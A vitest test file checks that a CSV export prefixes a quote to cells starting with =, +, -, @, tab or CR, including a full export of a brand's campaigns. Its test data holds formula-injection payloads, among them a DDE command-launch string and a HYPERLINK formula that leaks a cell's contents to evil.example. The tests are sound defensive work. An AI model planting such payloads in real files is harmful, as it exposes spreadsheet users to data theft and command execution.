import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { campaignsCsv } from "../../app/lib/campaigns-csv";
import type { Campaign, CampaignStats } from "../../app/lib/campaigns";
import { escapeCell, toCsv } from "../../workers/lib/csv";
import { createBrand, createCampaign, signIn } from "../factories";
import { api, uniqueEmail } from "./helpers";

describe("CSV cells a spreadsheet would run as formulas", () => {
  it("prefixes a single quote to text starting with = + - @ tab or CR", () => {
    for (const bad of ['=HYPERLINK("https://evil.example","click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\tx", "\rx", "-", "=", "+"]) {
      expect(escapeCell(bad)).toBe(`'${bad}`);
    }
  });

  it("leaves negative numbers numbers, and everything else as it was", () => {
    expect(escapeCell(-12)).toBe(-12);
    expect(escapeCell("-12")).toBe("-12");
    expect(escapeCell("-0.50")).toBe("-0.50");
    expect(escapeCell(3.5)).toBe(3.5);
    for (const ok of ["Glow Labs", "a=b", "x-1", "email@example.com", "", "2026-01-01T00:00:00.000Z", "0.00"]) expect(escapeCell(ok)).toBe(ok);
    expect(escapeCell(null)).toBe("");
    expect(escapeCell(undefined)).toBe("");
  });

  it("writes RFC 4180 CSV whose cells read back escaped, headers included", () => {
    const csv = toCsv(["name", "=total", "n"], [['=HYPERLINK("https://evil.example","x")', "-5.00", -3], ["Line, with comma", '"quoted"', 0]]);
    const back = Papa.parse<string[]>(csv.trim(), { skipEmptyLines: true }).data;
    expect(back).toEqual([
      ["name", "'=total", "n"],
      [`'=HYPERLINK("https://evil.example","x")`, "-5.00", "-3"],
      ["Line, with comma", '"quoted"', "0"],
    ]);
  });
});

describe("a real export goes through the escaping", () => {
  it("the brand's campaigns CSV escapes a formula in a campaign name and keeps numbers", async () => {
    const cookie = (await signIn(api, uniqueEmail("csv-brand"))).cookie;
    const domain = `csv-${Math.random().toString(36).slice(2, 8)}.example`;
    const brand = await createBrand(api, cookie, { name: "CSV Labs", website: `https://www.${domain}`, industry: "beauty", companySize: "11-50", country: "GB" });
    const name = '=HYPERLINK("https://evil.example/?leak="&A1,"Spring")';
    await createCampaign(api, cookie, { name, pricingModel: "cpc", rateMinor: 45, currency: "GBP", totalBudgetMinor: 500_000, dailyBudgetMinor: 50_000, fallbackUrl: `https://${domain}/shop` }, false);
    // What /brand/campaigns.csv does: the list and each campaign's stats from the gateway, then the export.
    const items = ((await (await api(`/api/v1/campaigns?brandId=${brand.id}`, { headers: { cookie } })).json()) as { items: Campaign[] }).items;
    const stats = await Promise.all(items.map(async (c) => (await (await api(`/api/v1/campaigns/${c.id}/stats?hours=24`, { headers: { cookie } })).json()) as CampaignStats));
    const res = campaignsCsv(items, stats);
    expect(res.headers.get("content-type")).toContain("text/csv");
    const rows = Papa.parse<Record<string, string>>((await res.text()).replace(/^\uFEFF/, "").trim(), { header: true }).data;
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ campaign: `'${name}`, currency: "GBP", budget: "5000.00", valid_clicks: "0" });
  });
});
